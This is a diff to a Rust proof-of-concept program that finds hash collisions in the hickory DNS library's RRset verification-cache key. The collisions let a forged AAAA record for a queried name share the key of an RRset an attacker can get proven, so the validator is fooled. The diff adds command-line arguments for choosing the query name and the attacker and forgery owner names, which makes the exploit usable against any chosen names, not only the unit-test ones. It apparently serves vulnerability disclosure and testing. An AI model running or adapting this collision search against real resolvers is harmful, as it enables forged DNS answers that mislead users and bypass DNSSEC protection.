@@ -5,6 +5,11 @@
 //! is fooled by it.
 //!
 //!     cargo run --release --example proof_key_collision
+//!     cargo run --release --example proof_key_collision -- www.signed.lab. x.unsigned.lab. www.signed.lab.
+//!
+//! The arguments are the query name (type AAAA), the owner of the RRset an
+//! attacker can have proven, and the owner of the forgery (by default the
+//! unit tests' `www.example.`, `x.insecure.example.`, `www.example.`).
 //!
 //! The key (hickory's `RrsetVerificationContext::key`) is a `DefaultHasher`
 //! (SipHash-1-3 with fixed keys) over the query and the RRset, so a
@@ -21,19 +26,18 @@ use std::time::Instant;
 
 use hickory_proto::rr::{rdata::AAAA, DNSClass, Name, RData, RecordType};
 
-const QNAME: &str = "www.example.";
-/// The two shapes: an RRset the attacker can have proven (an unsigned name
-/// in an insecure zone), and the forgery for the query's own name.
-const SHAPES: [(&str, [u16; 4]); 2] =
-    [("x.insecure.example.", [0x2001, 0xdb8, 0x1, 0]), ("www.example.", [0x2001, 0xdb8, 0x666, 0])];
+/// The two shapes' address prefixes: the RRset an attacker can have proven
+/// (an unsigned name in an insecure zone), and the forgery for the query's
+/// own name.
+const PREFIXES: [[u16; 4]; 2] = [[0x2001, 0xdb8, 0x1, 0], [0x2001, 0xdb8, 0x666, 0]];
 const DP_BITS: u32 = 24;
 
-/// The key's state before the one record's data, for each shape.
-fn prefixes() -> [DefaultHasher; 2] {
-    SHAPES.map(|(owner, _)| {
+/// The key's state before the one record's data, for each shape's owner.
+fn prefixes(qname: &str, owners: &[String; 2]) -> [DefaultHasher; 2] {
+    owners.clone().map(|owner| {
         let owner = Name::from_ascii(owner).unwrap();
         let mut h = DefaultHasher::new();
-        Name::from_ascii(QNAME).unwrap().hash(&mut h);
+        Name::from_ascii(qname).unwrap().hash(&mut h);
         DNSClass::IN.hash(&mut h);
         RecordType::AAAA.hash(&mut h);
         owner.hash(&mut h);
@@ -49,7 +53,7 @@ fn prefixes() -> [DefaultHasher; 2] {
 /// the interface identifier.
 fn address(s: u64) -> (usize, Ipv6Addr) {
     let shape = (s & 1) as usize;
-    let [a, b, c, d] = SHAPES[shape].1;
+    let [a, b, c, d] = PREFIXES[shape];
     let iid = [(s >> 48) as u16, (s >> 32) as u16, (s >> 16) as u16, s as u16];
     (shape, Ipv6Addr::new(a, b, c, d, iid[0], iid[1], iid[2], iid[3]))
 }
@@ -62,8 +66,17 @@ fn step(prefixes: &[DefaultHasher; 2], s: u64) -> u64 {
 }
 
 fn main() {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let (qname, owners) = match args.as_slice() {
+        [] => ("www.example.".to_string(), ["x.insecure.example.".to_string(), "www.example.".to_string()]),
+        [q, a, b] => (q.clone(), [a.clone(), b.clone()]),
+        _ => {
+            eprintln!("usage: proof_key_collision [QNAME ATTACKER_OWNER FORGED_OWNER]");
+            std::process::exit(64);
+        }
+    };
     let started = Instant::now();
-    let prefixes = Arc::new(prefixes());
+    let prefixes = Arc::new(prefixes(&qname, &owners));
     let ends: Arc<Mutex<HashMap<u64, (u64, u64)>>> = Arc::default();
     let found: Arc<Mutex<Option<(u64, u64)>>> = Arc::default();
     let threads = std::thread::available_parallelism().map_or(2, |n| n.get());
@@ -102,8 +115,9 @@ fn main() {
     let (su, iu) = address(u);
     let (sv, iv) = address(v);
     println!("key {:#018x} after {:.0} s, {} distinguished points", step(&prefixes, u), started.elapsed().as_secs_f64(), ends.lock().unwrap().len());
-    println!("{} AAAA {iu}", SHAPES[su].0);
-    println!("{} AAAA {iv}", SHAPES[sv].0);
+    println!("query {qname} AAAA");
+    println!("{} AAAA {iu}", owners[su]);
+    println!("{} AAAA {iv}", owners[sv]);
 }
 
 /// Two walks that end on one distinguished point: walks them in step from
